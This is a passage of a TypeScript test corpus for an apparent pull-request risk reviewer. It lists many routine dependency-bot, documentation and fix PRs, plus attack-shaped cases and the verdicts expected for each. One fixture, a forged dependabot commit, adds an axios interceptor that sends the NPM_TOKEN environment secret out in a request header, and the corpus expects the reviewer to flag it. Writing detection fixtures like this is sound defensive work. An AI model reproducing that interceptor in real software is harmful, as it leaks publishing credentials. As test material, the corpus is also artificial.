    description: 'A regular contributor updates the German translation strings; CI green.',
    repo: 'atlas',
    title: 'i18n(de): translate the new export dialog',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [{ path: 'locales/de/messages.json', additions: 24, deletions: 3 }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-generated-client-regen',
    description: 'A maintainer regenerates the OpenAPI client (generated files) after a spec change, with the spec; CI green.',
    repo: 'atlas',
    title: 'chore: regenerate API client for the orders endpoints',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'api/openapi.yaml', additions: 18, deletions: 2 },
      ...Array.from({ length: 6 }, (_, i) => ({ path: `src/__generated__/api/orders-${i}.ts`, additions: 160, deletions: 40 })),
    ],
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['size', 'tests-missing'] },
  }),
  pr({
    id: 'cal-collaborator-new-history',
    description: 'A collaborator (account 5 months old, no merged PR yet) adds a small option with a test; CI green.',
    repo: 'atlas',
    title: 'feat: --quiet flag for the CLI',
    author: { login: 'tobi-n', association: 'COLLABORATOR', createdAt: daysAgo(150) },
    files: [
      { path: 'src/cli/flags.ts', additions: 9, deletions: 1 },
      { path: 'src/cli/flags.test.ts', additions: 14, deletions: 0 },
    ],
    expect: { level: 'low', action: 'approve', noFindings: true },
  }),
  pr({
    id: 'cal-tests-only',
    description: 'A regular contributor adds missing tests for the date helpers; CI green.',
    repo: 'atlas',
    title: 'test: cover leap years in date helpers',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [{ path: 'src/dates/leap-year.test.ts', additions: 48, deletions: 0 }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-docs-site-section',
    description: 'A maintainer writes a new guide section across four docs pages; CI green.',
    repo: 'atlas',
    title: 'docs: a guide to custom exporters',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'docs/guides/exporters.md', additions: 180, deletions: 0 },
      { path: 'docs/guides/index.md', additions: 2, deletions: 0 },
      { path: 'docs/reference/export.md', additions: 40, deletions: 12 },
      { path: 'README.md', additions: 3, deletions: 1 },
    ],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-python-feature-with-tests',
    description: 'A regular contributor adds a pagination helper to a Python library with tests; CI green.',
    repo: 'pyatlas',
    title: 'Add paginate() helper',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'pyatlas/paginate.py', head: pyFunctions('page', 10) },
      { path: 'tests/test_paginate.py', additions: 45, deletions: 0 },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-go-bugfix-with-test',
    description: 'A regular contributor fixes an off-by-one in a Go ring buffer with a regression test; CI green.',
    repo: 'ring',
    title: 'ring: fix wrap-around at capacity',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'ring/buffer.go', additions: 3, deletions: 3 },
      { path: 'ring/buffer_test.go', additions: 21, deletions: 0 },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-first-timer-code-comment-typo',
    description: 'A first-time contributor fixes a typo in a code comment; CI green.',
    repo: 'ring',
    title: 'Fix typo in comment',
    author: { login: 'quietfox', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2021-07-07T00:00:00Z' },
    files: [
      {
        path: 'ring/buffer.go',
        base: lines('package ring', '', '// Len returns the number of elemnts in the buffer.', 'func (b *Buffer) Len() int { return b.n }'),
        head: lines('package ring', '', '// Len returns the number of elements in the buffer.', 'func (b *Buffer) Len() int { return b.n }'),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['tests-missing'], absentRecommendations: ['add-tests'] },
  }),
];

// ---------------------------------------------------------------------------------------------
// Dependency bots, one per ecosystem

function goMod(testify: string): string {
  return lines('module github.com/northwind/ring', '', 'go 1.23', '', 'require (', '\tgolang.org/x/sync v0.9.0', `\tgithub.com/stretchr/testify ${testify}`, ')');
}

/** An npm v6 lockfile: balanced-match at the top with its checksum and bundled inside fsevents without one. */
function npmV6Lock(ws: string): string {
  const registry = (name: string, version: string) => `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`;
  return `${JSON.stringify(
    {
      name: 'storefront',
      version: '3.12.0',
      lockfileVersion: 1,
      requires: true,
      dependencies: {
        'balanced-match': { version: '1.0.0', resolved: registry('balanced-match', '1.0.0'), integrity: 'sha1-ibTRmasr7kneFk6gK4nORi1xt2c=', dev: true },
        fsevents: {
          version: '1.2.9',
          resolved: registry('fsevents', '1.2.9'),
          integrity: 'sha512-oeyj2H3EjjonWcFjD5NvZNE9Rqe4UW+nQBU2HNeKw0koVLEFIhtyETyAakeAM3de7Z/SW5kcA+fZUait9EApnw==',
          dev: true,
          optional: true,
          dependencies: { 'balanced-match': { version: '1.0.0', bundled: true, dev: true, optional: true } },
        },
        ws: { version: ws, resolved: registry('ws', ws), integrity: ws === '5.2.2' ? 'sha512-jaHFD6PFv6UgoIVda6qZllptQsMlDEJkTQcybzzXDYM1XO9Y8em691FGMPmM46WGyLU4z9KMgQN+qrux/nhlHA==' : 'sha512-jZArVERrMsKUatIdnLzqvcfydI85dvd/Fp1u/VOpfdDWQ4c9qWXe+VIeAbQ5FrDwciAkr+lzofXLz3Kuf26AOA==', dev: true },
      },
    },
    null,
    2,
  )}\n`;
}

const BOT_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-dependabot-pip',
    description: 'Dependabot bumps requests 2.32.2 -> 2.32.3 in requirements.txt; CI green.',
    repo: 'pyatlas',
    title: 'Bump requests from 2.32.2 to 2.32.3',
    author: DEPENDABOT,
    files: [{ path: 'requirements.txt', base: lines('click==8.1.7', 'requests==2.32.2', 'rich==13.9.4'), head: lines('click==8.1.7', 'requests==2.32.3', 'rich==13.9.4') }],
    commits: [botCommit('Bump requests from 2.32.2 to 2.32.3', 'dependabot[bot]', 49699333)],
    checks: GREEN_PY,
    extra: { headBranch: 'dependabot/pip/requests-2.32.3', labels: ['dependencies', 'python'] },
    expect: { ...LOW_APPROVE, noFindings: true, absentRecommendations: ['security-review', 'add-tests', 'verify-contributor'] },
  }),
  pr({
    id: 'cal-dependabot-git-dependency-tag',
    description:
      "Dependabot bumps a benchmark-only server library that is published only on GitHub, so the benchmarks' package.json takes it from the repository by tag: socketworks/uws.js#v20.67.0 -> #v20.68.0, the same repository as before; CI green.",
    repo: 'fetchkit-node',
    title: 'build(deps): bump uws.js in /benchmarks',
    author: DEPENDABOT,
    files: [
      {
        path: 'benchmarks/package.json',
        base: packageJson({ name: 'benchmarks', version: '0.0.0', dependencies: { tinybench: '^6.0.1', 'uws.js': 'socketworks/uws.js#v20.67.0' } }),
        head: packageJson({ name: 'benchmarks', version: '0.0.0', dependencies: { tinybench: '^6.0.1', 'uws.js': 'socketworks/uws.js#v20.68.0' } }),
      },
    ],
    commits: [botCommit('build(deps): bump uws.js in /benchmarks', 'dependabot[bot]', 49699333)],
    extra: { headBranch: 'dependabot/npm_and_yarn/benchmarks/uws.js-v20.68.0', labels: ['dependencies', 'javascript'] },
    // The ref move stays on record as a low git-dependency finding.
    expect: { ...LOW_APPROVE, findings: ['git-dependency'] },
  }),
  pr({
    id: 'cal-dependabot-npm-v6-lock-bundled-copies',
    description:
      'Dependabot bumps a transitive ws 5.2.2 -> 5.2.3 in an npm v6 lockfile (lockfileVersion 1) where balanced-match sits at the top with its checksum and again bundled inside fsevents without one; CI green. The bundled copy was already there: no checksum is removed.',
    repo: 'storefront',
    title: 'Bump ws from 5.2.2 to 5.2.3',
    author: DEPENDABOT,
    files: [{ path: 'package-lock.json', base: npmV6Lock('5.2.2'), head: npmV6Lock('5.2.3') }],
    commits: [botCommit('Bump ws from 5.2.2 to 5.2.3', 'dependabot[bot]', 49699333)],
    extra: { headBranch: 'dependabot/npm_and_yarn/ws-5.2.3', labels: ['dependencies', 'javascript'] },
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:lockfile-integrity-removed'] },
  }),
  pr({
    id: 'cal-dependabot-cargo',
    description: 'Dependabot bumps serde 1.0.214 -> 1.0.215 in Cargo.toml and Cargo.lock; CI green.',
    repo: 'ferryboat',
    title: 'Bump serde from 1.0.214 to 1.0.215',
    author: DEPENDABOT,
    files: [
      { path: 'Cargo.toml', base: lines('[package]', 'name = "ferryboat"', 'version = "0.3.0"', 'edition = "2021"', '', '[dependencies]', 'serde = "1.0.214"'), head: lines('[package]', 'name = "ferryboat"', 'version = "0.3.0"', 'edition = "2021"', '', '[dependencies]', 'serde = "1.0.215"') },
      {
        path: 'Cargo.lock',
        base: lines('version = 4', '', '[[package]]', 'name = "ferryboat"', 'version = "0.3.0"', '', '[[package]]', 'name = "serde"', 'version = "1.0.214"', 'source = "registry+https://github.com/rust-lang/crates.io-index"', 'checksum = "f55c3193aca71c12ad7890f1785d2b73e1b9f63a0bbc353c08ef26fe03fc56b5"'),
        head: lines('version = 4', '', '[[package]]', 'name = "ferryboat"', 'version = "0.3.0"', '', '[[package]]', 'name = "serde"', 'version = "1.0.215"', 'source = "registry+https://github.com/rust-lang/crates.io-index"', 'checksum = "6513c1ad0b11a9376da888e3e0baa0077f1aed55c17f50e7b2397136129fb88f"'),
      },
    ],
    commits: [botCommit('Bump serde from 1.0.214 to 1.0.215', 'dependabot[bot]', 49699333)],
    checks: GREEN_RUST,
    extra: { headBranch: 'dependabot/cargo/serde-1.0.215', labels: ['dependencies', 'rust'] },
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-dependabot-gomod',
    description: 'Dependabot bumps github.com/stretchr/testify v1.9.0 -> v1.10.0 in go.mod and go.sum; CI green.',
    repo: 'ring',
    title: 'Bump github.com/stretchr/testify from 1.9.0 to 1.10.0',
    author: DEPENDABOT,
    files: [
      { path: 'go.mod', base: goMod('v1.9.0'), head: goMod('v1.10.0') },
      {
        path: 'go.sum',
        base: lines('github.com/stretchr/testify v1.9.0 h1:HtqpIVDClZ4nwg75+f6Lvsy/wHu+3BoSGCbBAcpTsTg=', 'github.com/stretchr/testify v1.9.0/go.mod h1:r2ic/lqez/lEtzL7wO/rwa5dbSLXVDPFyf8C91i36aY='),
        head: lines('github.com/stretchr/testify v1.10.0 h1:Xv5erBjTwe/5IxqUQTdXv5kgmIvbHo3QQyRwhJsOfJA=', 'github.com/stretchr/testify v1.10.0/go.mod h1:r2ic/lqez/lEtzL7wO/rwa5dbSLXVDPFyf8C91i36aY='),
      },
    ],
    commits: [botCommit('Bump github.com/stretchr/testify from 1.9.0 to 1.10.0', 'dependabot[bot]', 49699333)],
    checks: GREEN_GO,
    extra: { headBranch: 'dependabot/go_modules/github.com/stretchr/testify-1.10.0', labels: ['dependencies', 'go'] },
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-dependabot-bundler-lockfile-only',
    description: 'Dependabot bumps the transitive nokogiri 1.16.7 -> 1.16.8 in Gemfile.lock only; CI green.',
    repo: 'ledger-rb',
    title: 'Bump nokogiri from 1.16.7 to 1.16.8',
    author: DEPENDABOT,
    files: [
      {
        path: 'Gemfile.lock',
        base: lines('GEM', '  remote: https://rubygems.org/', '  specs:', '    nokogiri (1.16.7)', '      racc (~> 1.4)', '    racc (1.8.1)', '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  nokogiri', '', 'BUNDLED WITH', '   2.5.22'),
        head: lines('GEM', '  remote: https://rubygems.org/', '  specs:', '    nokogiri (1.16.8)', '      racc (~> 1.4)', '    racc (1.8.1)', '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  nokogiri', '', 'BUNDLED WITH', '   2.5.22'),
      },
    ],
    commits: [botCommit('Bump nokogiri from 1.16.7 to 1.16.8', 'dependabot[bot]', 49699333)],
    checks: GREEN_RUBY,
    extra: { headBranch: 'dependabot/bundler/nokogiri-1.16.8', labels: ['dependencies', 'ruby'] },
    expect: { level: 'low', action: 'approve', absentRecommendations: ['security-review', 'add-tests', 'split'] },
  }),
  pr({
    id: 'cal-dependabot-composer',
    description: 'Dependabot bumps monolog/monolog 3.7.0 -> 3.8.0 in composer.json and composer.lock; CI green.',
    repo: 'ledger-php',
    title: 'Bump monolog/monolog from 3.7.0 to 3.8.0',
    author: DEPENDABOT,
    files: [
      { path: 'composer.json', base: `${JSON.stringify({ name: 'northwind/ledger', require: { php: '^8.2', 'monolog/monolog': '^3.7.0' } }, null, 4)}\n`, head: `${JSON.stringify({ name: 'northwind/ledger', require: { php: '^8.2', 'monolog/monolog': '^3.8.0' } }, null, 4)}\n` },
      {
        path: 'composer.lock',
        base: `${JSON.stringify({ packages: [{ name: 'monolog/monolog', version: '3.7.0', source: { type: 'git', url: 'https://github.com/Seldaek/monolog.git', reference: 'f4393b648b78a5408747de94fca38beb5f7e9ef8' }, dist: { type: 'zip', url: 'https://api.github.com/repos/Seldaek/monolog/zipball/f4393b648b78a5408747de94fca38beb5f7e9ef8' } }], 'packages-dev': [] }, null, 4)}\n`,
        head: `${JSON.stringify({ packages: [{ name: 'monolog/monolog', version: '3.8.0', source: { type: 'git', url: 'https://github.com/Seldaek/monolog.git', reference: '32e515fdc02cdafbe4593e30a9350d486b125b67' }, dist: { type: 'zip', url: 'https://api.github.com/repos/Seldaek/monolog/zipball/32e515fdc02cdafbe4593e30a9350d486b125b67' } }], 'packages-dev': [] }, null, 4)}\n`,
      },
    ],
    commits: [botCommit('Bump monolog/monolog from 3.7.0 to 3.8.0', 'dependabot[bot]', 49699333)],
    checks: GREEN_PHP,
    extra: { headBranch: 'dependabot/composer/monolog/monolog-3.8.0', labels: ['dependencies', 'php'] },
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-composer-bin-tool-major',
    description:
      "Modeled on static-analysis upgrades replayed from a PHP HTTP client: a maintainer moves phpstan and its strict rules to a new major in the tool's own project, vendor-bin/phpstan/composer.json (bamarni/composer-bin-plugin, no package name), and updates the baseline; CI green. The tool runs in CI only, as require-dev does: development majors, low.",
    repo: 'ledger-php',
    title: 'Upgrade PHPStan to 2.x',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'vendor-bin/phpstan/composer.json', base: `${JSON.stringify({ require: { php: '^8.2', 'phpstan/phpstan': '1.12.0', 'phpstan/phpstan-strict-rules': '1.6.0' } }, null, 4)}\n`, head: `${JSON.stringify({ require: { php: '^8.2', 'phpstan/phpstan': '2.1.0', 'phpstan/phpstan-strict-rules': '2.0.0' } }, null, 4)}\n` },
      { path: 'phpstan-baseline.neon', base: lines('parameters:', '    ignoreErrors:', '        -', "            message: '#^Method Ledger::total\\(\\) has no return type specified\\.$#'", '            count: 1', '            path: src/Ledger.php'), head: lines('parameters:', '    ignoreErrors:', '        -', "            message: '#^Method Ledger::total\\(\\) has no return type specified\\.$#'", '            identifier: missingType.return', '            count: 1', '            path: src/Ledger.php') },
    ],
    checks: GREEN_PHP,
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-tool-major-with-its-ci-command',
    description:
      "Modeled on a PHP HTTP client's coding-standard upgrade: a maintainer moves PHP-CS-Fixer to its next major in the tool's own project (vendor-bin/php-cs-fixer/composer.json) and edits the workflow command that runs it for the renamed configuration file; no new step, action, trigger, permission or secret, CI green. A development tool's major that every check passed with, beside a job's own command edited: low (trusted-routine).",
    repo: 'ledger-php',
    title: 'Upgrade PHP-CS-Fixer to 3.x',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'vendor-bin/php-cs-fixer/composer.json', base: `${JSON.stringify({ require: { php: '^8.2', 'friendsofphp/php-cs-fixer': '2.19.3' } }, null, 4)}\n`, head: `${JSON.stringify({ require: { php: '^8.2', 'friendsofphp/php-cs-fixer': '3.64.0' } }, null, 4)}\n` },
      { path: '.github/workflows/static.yml', base: lines('name: static', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  cs:', '    runs-on: ubuntu-24.04', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: shivammathur/setup-php@0f7f1d08e3e32076e51cae65eb0b0c871405b16e # v2.34.1', '        with:', "          php-version: '8.3'", '      - run: composer bin php-cs-fixer update --no-interaction', '      - run: vendor/bin/php-cs-fixer fix --dry-run --diff --config=.php_cs.dist'), head: lines('name: static', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  cs:', '    runs-on: ubuntu-24.04', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: shivammathur/setup-php@0f7f1d08e3e32076e51cae65eb0b0c871405b16e # v2.34.1', '        with:', "          php-version: '8.3'", '      - run: composer bin php-cs-fixer update --no-interaction', '      - run: vendor/bin/php-cs-fixer fix --dry-run --diff --config=.php-cs-fixer.dist.php') },
    ],
    checks: GREEN_PHP,
    expect: { level: 'low', action: 'approve', drivers: ['sensitive-paths', 'major-updates'] },
  }),
  pr({
    id: 'cal-composer-root-runtime-major',
    description: 'The same kind of major moved in the root composer.json of a published package (it has a name): a runtime dependency of every user, medium for its changelog.',
    repo: 'ledger-php',
    title: 'Upgrade brick/math to 0.13',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'composer.json', base: `${JSON.stringify({ name: 'northwind/ledger', require: { php: '^8.2', 'brick/math': '^0.12' } }, null, 4)}\n`, head: `${JSON.stringify({ name: 'northwind/ledger', require: { php: '^8.2', 'brick/math': '^0.13' } }, null, 4)}\n` },
    ],
    checks: GREEN_PHP,
    expect: { level: 'medium', action: 'comment', drivers: ['major-updates'] },
  }),
  pr({
    id: 'cal-dependabot-maven',
    description: 'Dependabot bumps jackson-databind 2.18.1 -> 2.18.2 in pom.xml; CI green.',
    repo: 'ledger-java',
    title: 'Bump com.fasterxml.jackson.core:jackson-databind from 2.18.1 to 2.18.2',
    author: DEPENDABOT,
    files: [
      {
        path: 'pom.xml',
        base: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>io.northwind</groupId>', '  <artifactId>ledger</artifactId>', '  <version>1.4.0</version>', '  <dependencies>', '    <dependency>', '      <groupId>com.fasterxml.jackson.core</groupId>', '      <artifactId>jackson-databind</artifactId>', '      <version>2.18.1</version>', '    </dependency>', '  </dependencies>', '</project>'),
        head: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>io.northwind</groupId>', '  <artifactId>ledger</artifactId>', '  <version>1.4.0</version>', '  <dependencies>', '    <dependency>', '      <groupId>com.fasterxml.jackson.core</groupId>', '      <artifactId>jackson-databind</artifactId>', '      <version>2.18.2</version>', '    </dependency>', '  </dependencies>', '</project>'),
      },
    ],
    commits: [botCommit('Bump com.fasterxml.jackson.core:jackson-databind from 2.18.1 to 2.18.2', 'dependabot[bot]', 49699333)],
    checks: GREEN_JVM,
    extra: { headBranch: 'dependabot/maven/com.fasterxml.jackson.core-jackson-databind-2.18.2', labels: ['dependencies', 'java'] },
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-renovate-gradle',
    description: 'Renovate bumps okhttp 4.12.0 -> 4.12.1 in build.gradle.kts; CI green.',
    repo: 'ledger-android',
    title: 'fix(deps): update dependency com.squareup.okhttp3:okhttp to v4.12.1',
    author: RENOVATE,
    files: [
      {
        path: 'app/build.gradle.kts',
        base: lines('plugins {', '    id("com.android.application")', '}', '', 'dependencies {', '    implementation("com.squareup.okhttp3:okhttp:4.12.0")', '    testImplementation("junit:junit:4.13.2")', '}'),
        head: lines('plugins {', '    id("com.android.application")', '}', '', 'dependencies {', '    implementation("com.squareup.okhttp3:okhttp:4.12.1")', '    testImplementation("junit:junit:4.13.2")', '}'),
      },
    ],
    commits: [{ message: 'fix(deps): update dependency com.squareup.okhttp3:okhttp to v4.12.1', authorEmail: '29139614+renovate[bot]@users.noreply.github.com' }],
    checks: GREEN_JVM,
    extra: { headBranch: 'renovate/com.squareup.okhttp3-okhttp-4.x', labels: ['dependencies'] },
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-dependabot-docker',
    description: 'Dependabot bumps the Dockerfile base image python 3.12.6-slim -> 3.12.7-slim; CI green.',
    repo: 'pyatlas',
    title: 'Bump python from 3.12.6-slim to 3.12.7-slim',
    author: DEPENDABOT,
    files: [
      {
        path: 'Dockerfile',
        base: lines('FROM python:3.12.6-slim', 'WORKDIR /app', 'COPY requirements.txt .', 'RUN pip install --no-cache-dir -r requirements.txt', 'COPY . .', 'USER 1000', 'CMD ["python", "-m", "pyatlas"]'),
        head: lines('FROM python:3.12.7-slim', 'WORKDIR /app', 'COPY requirements.txt .', 'RUN pip install --no-cache-dir -r requirements.txt', 'COPY . .', 'USER 1000', 'CMD ["python", "-m", "pyatlas"]'),
      },
    ],
    commits: [botCommit('Bump python from 3.12.6-slim to 3.12.7-slim', 'dependabot[bot]', 49699333)],
    checks: GREEN_PY,
    extra: { headBranch: 'dependabot/docker/python-3.12.7-slim', labels: ['dependencies', 'docker'] },
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-renovate-action-tag-bump',
    description:
      'Renovate moves a third-party setup action from @v5 to @v6 in two workflows of a repository that references actions by tag (modeled on a Vue monorepo); CI green. The action was followed by tag before: no new trust, only a reminder to pin.',
    repo: 'atlas',
    title: 'chore(deps): update pnpm-tools/setup action to v6',
    author: RENOVATE,
    files: ['ci', 'release'].map((name) => {
      const workflow = (ref: string) =>
        lines(`name: ${name}`, 'on:', '  push:', '    branches: [main]', 'permissions:', '  contents: read', 'jobs:', `  ${name}:`, '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v5', '        with:', '          persist-credentials: false', `      - uses: pnpm-tools/setup@${ref}`, '      - uses: actions/setup-node@v5', '        with:', '          node-version: 22', '      - run: pnpm install --frozen-lockfile', `      - run: pnpm run ${name === 'ci' ? 'test' : 'build'}`);
      return { path: `.github/workflows/${name}.yml`, base: workflow('v5'), head: workflow('v6') };
    }),
    commits: [botCommit('chore(deps): update pnpm-tools/setup action to v6', 'renovate[bot]', 29139614)],
    extra: { headBranch: 'renovate/pnpm-tools-setup-6.x', labels: ['dependencies'] },
    expect: { ...LOW_APPROVE, findings: ['gha-unpinned-action'], absentDrivers: ['sensitive-paths'], absentRecommendations: ['security-review'] },
  }),
];

// ---------------------------------------------------------------------------------------------
// Attack-like shapes that only trust and history reveal

const TRUST_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-lookalike-bot-auth-change',
    description: 'A 6-day-old user account named "dependabot-bot" opens "Bump jsonwebtoken" but edits the token verification code.',
    repo: 'atlas',
    title: 'Bump jsonwebtoken from 9.0.1 to 9.0.2',
    author: { login: 'dependabot-bot', type: 'User', association: 'NONE', createdAt: daysAgo(6) },
    files: [{ path: 'src/auth/verify-token.ts', additions: 14, deletions: 6 }],
    extra: { fork: true, headBranch: 'dependabot/npm_and_yarn/jsonwebtoken-9.0.2' },
    expect: { level: 'medium', action: ['needs_discussion', 'request_changes'], drivers: ['author-trust', 'sensitive-paths'], recommendations: ['verify-contributor', 'security-review'] },
  }),
  pr({
    id: 'cal-new-account-auth-no-tests',
    description: 'A 10-day-old account rewrites the session middleware without tests; CI green, no finding.',
    repo: 'atlas',
    title: 'Simplify session handling',
    author: { login: 'fastfixer2026', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(10) },
    files: [{ path: 'src/auth/session.ts', additions: 60, deletions: 45 }],
    extra: { fork: true },
    expect: { level: 'medium', action: 'needs_discussion', drivers: ['author-trust', 'sensitive-paths', 'tests-missing'], recommendations: ['verify-contributor', 'security-review', 'add-tests'] },
  }),
  pr({
    id: 'cal-dependabot-commit-impersonated',
    description:
      "Dependabot's PR bumping axios gets a second commit under Dependabot's name, unsigned, that also edits the HTTP client (the 2023 campaign of commits faked as dependabot[bot] with stolen tokens).",
    repo: 'atlas',
    title: 'Bump axios from 1.7.7 to 1.7.9',
    author: DEPENDABOT,
    files: [
      { path: 'package.json', base: lines('{', '  "name": "atlas",', '  "dependencies": {', '    "axios": "^1.7.7"', '  }', '}'), head: lines('{', '  "name": "atlas",', '  "dependencies": {', '    "axios": "^1.7.9"', '  }', '}') },
      {
        path: 'src/http/client.ts',
        base: lines("import axios from 'axios';", '', 'export const client = axios.create({ timeout: 10_000 });'),
        head: lines("import axios from 'axios';", '', 'export const client = axios.create({ timeout: 10_000 });', "client.interceptors.request.use((c) => { c.headers['x-trace'] = process.env.NPM_TOKEN; return c; });"),
      },
    ],
    commits: [
      botCommit('Bump axios from 1.7.7 to 1.7.9', 'dependabot[bot]', 49699333),
      { ...botCommit('Bump axios from 1.7.7 to 1.7.9', 'dependabot[bot]', 49699333), committerLogin: 'dependabot[bot]', committerName: 'dependabot[bot]', committerEmail: '49699333+dependabot[bot]@users.noreply.github.com', verified: false },
    ],
    extra: { headBranch: 'dependabot/npm_and_yarn/axios-1.7.9', labels: ['dependencies', 'javascript'] },
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['automation-commit-unverified'] },
  }),
  pr({
    id: 'cal-dependabot-maintainer-fixup',
    description: "A maintainer pushes a fix-up commit onto Dependabot's major bump of a test library (the API changed); CI green.",
    repo: 'atlas',
    title: 'Bump vitest from 2.1.8 to 3.0.2',
    author: DEPENDABOT,
    files: [
      { path: 'package.json', base: lines('{', '  "name": "atlas",', '  "devDependencies": {', '    "vitest": "^2.1.8"', '  }', '}'), head: lines('{', '  "name": "atlas",', '  "devDependencies": {', '    "vitest": "^3.0.2"', '  }', '}') },
      { path: 'vitest.config.ts', base: lines("import { defineConfig } from 'vitest/config';", '', "export default defineConfig({ test: { environment: 'node' } });"), head: lines("import { defineConfig } from 'vitest/config';", '', "export default defineConfig({ test: { environment: 'node', pool: 'forks' } });") },
    ],
    commits: [
      botCommit('Bump vitest from 2.1.8 to 3.0.2', 'dependabot[bot]', 49699333),
      { message: 'Adapt the test config to vitest 3', authorLogin: MAINTAINER.login, authorName: 'Ingrid Holm', authorEmail: 'ingrid@example.com', committerLogin: MAINTAINER.login, committerName: 'Ingrid Holm', committerEmail: 'ingrid@example.com', verified: true },
    ],
    extra: { headBranch: 'dependabot/npm_and_yarn/vitest-3.0.2', labels: ['dependencies', 'javascript'] },
    expect: { level: ['low', 'medium'], action: 'comment', drivers: ['automation-pr-other-commits'], noFindings: true },
  }),
];

// ---------------------------------------------------------------------------------------------
// More of the everyday

const EVERYDAY_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-renovate-npm-dev-patch',
    description: 'Renovate bumps the dev dependency vitest ^4.0.8 -> ^4.0.9 with its lockfile; CI green.',
    repo: 'storefront-web',
    title: 'chore(deps): update dependency vitest to v4.0.9',
    author: RENOVATE,
    files: [
      { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, devDependencies: { ...WEBAPP_DEV, vitest: '^4.0.9' } }) },
      {
        path: 'package-lock.json',
        base: packageLock(WEBAPP, WEBAPP_LOCKED),
        head: packageLock({ ...WEBAPP, devDependencies: { ...WEBAPP_DEV, vitest: '^4.0.9' } }, WEBAPP_LOCKED.map((p) => (p.name === 'vitest' ? { ...p, version: '4.0.9' } : p))),
      },
    ],
    commits: [{ message: 'chore(deps): update dependency vitest to v4.0.9', authorEmail: '29139614+renovate[bot]@users.noreply.github.com' }],
    extra: { headBranch: 'renovate/vitest-monorepo', labels: ['dependencies'] },
    expect: { ...LOW_APPROVE, noFindings: true, absentRecommendations: ['security-review', 'review-new-dependencies'] },
  }),
  pr({
    id: 'cal-release-please-release',
    description: 'release-please[bot] opens the release PR: CHANGELOG.md and the release manifest; CI green.',
    repo: 'atlas',
    title: 'chore(main): release 4.3.0',
    author: { login: 'release-please[bot]', association: 'CONTRIBUTOR', createdAt: '2020-06-01T00:00:00Z' },
    files: [
      { path: 'CHANGELOG.md', additions: 14, deletions: 0 },
      { path: '.release-please-manifest.json', base: `${JSON.stringify({ '.': '4.2.1' }, null, 2)}\n`, head: `${JSON.stringify({ '.': '4.3.0' }, null, 2)}\n` },
    ],
    commits: [botCommit('chore(main): release 4.3.0', 'release-please[bot]', 55107282)],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-own-updater-app-bumps-pins',
    description:
      "The project's own GitHub App (not a well-known bot; its earlier PRs are merged, so GitHub calls it a CONTRIBUTOR) refreshes the pinned tool versions of its build environments: patch and minor bumps in three constraints files and the list of interpreter releases; CI green (modeled on a wheel builder's weekly `[Bot] Update dependencies`). Its trust was unknown (author-trust 0.15; with the size of a longer releases list, medium).",
    repo: 'atlas',
    title: '[Bot] Update dependencies',
    author: { login: 'atlas-updater[bot]', association: 'CONTRIBUTOR', createdAt: '2021-05-01T00:00:00Z' },
    files: [
      ...(['38', '312', '313'] as const).map((py) => ({
        path: `atlas/resources/constraints-python${py}.txt`,
        base: lines('# generated by the update workflow', 'build==1.2.2', 'certifi==2025.8.3', 'delocate==0.13.0', 'packaging==25.0', 'pip==25.2', 'virtualenv==20.34.0'),
        head: lines('# generated by the update workflow', 'build==1.3.0', 'certifi==2025.10.5', 'delocate==0.13.0', 'packaging==25.0', 'pip==25.2', 'virtualenv==20.35.3'),
      })),
      {
        path: 'atlas/resources/interpreter-releases.json',
